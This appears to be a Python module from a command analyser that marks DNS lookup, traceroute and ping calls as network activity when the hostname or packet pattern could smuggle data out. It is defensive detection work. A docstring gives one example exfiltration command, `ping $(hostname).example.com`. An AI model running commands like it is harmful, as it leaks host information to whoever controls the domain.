"""Programs that look a name up or ask a host whether it is there: the name itself can carry data out."""

from __future__ import annotations

import re

from ..call import Call, Handler
from ..expand import UNKNOWN
from .wire import is_near

# What is longer than a name that somebody gave, in the alphabets that bytes are written in.
_ENCODED = re.compile(r"^(?:[0-9a-f]{32,}|[a-z2-7]{40,}|[A-Za-z0-9_-]{50,})$", re.IGNORECASE)


def _lookup(call: Call) -> None:
    """`ping $(hostname).example.com`: whoever answers for the domain reads what stands before it."""
    call.note("read")
    if any(_carries(text) for text in call.texts if not text.startswith(("-", "+", "@"))):
        call.note("run", "network")


def _ping(call: Call) -> None:
    """The same; and a pattern that fills the packets is data."""
    _lookup(call)
    pattern = call.value("-p", "--pattern")
    if pattern is not None and not (len(pattern.text) < _SHORT and pattern.known):
        call.note("run", "network")


_SHORT = 5


def _carries(name: str) -> bool:
    """Whether a name in a domain of others holds something that is not known, or encoded bytes."""
    labels = name.rstrip(".").split(".")
    if len(labels) < 2 or is_near(name.replace(UNKNOWN, "x")):
        return False
    inner = labels[:-1]
    return (UNKNOWN in name and name != UNKNOWN) or any(_ENCODED.match(label) for label in inner)


HANDLERS: dict[str, Handler] = {
    **dict.fromkeys(("dig", "nslookup", "host", "drill", "traceroute"), _lookup),
    **dict.fromkeys(("tracepath", "mtr", "tcptraceroute", "traceroute6"), _lookup),
    **dict.fromkeys(("ping", "ping6"), _ping),
}
